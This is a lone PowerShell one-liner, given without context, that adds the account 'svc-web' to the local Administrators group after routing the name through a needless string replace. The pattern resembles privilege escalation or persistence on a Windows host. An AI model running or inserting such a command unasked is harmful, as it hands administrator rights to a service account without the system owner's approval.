'Every-one' | ForEach-Object Replace 'Every-one' 'svc-web' | ForEach-Object { Add-LocalGroupMember Administrators $_ }
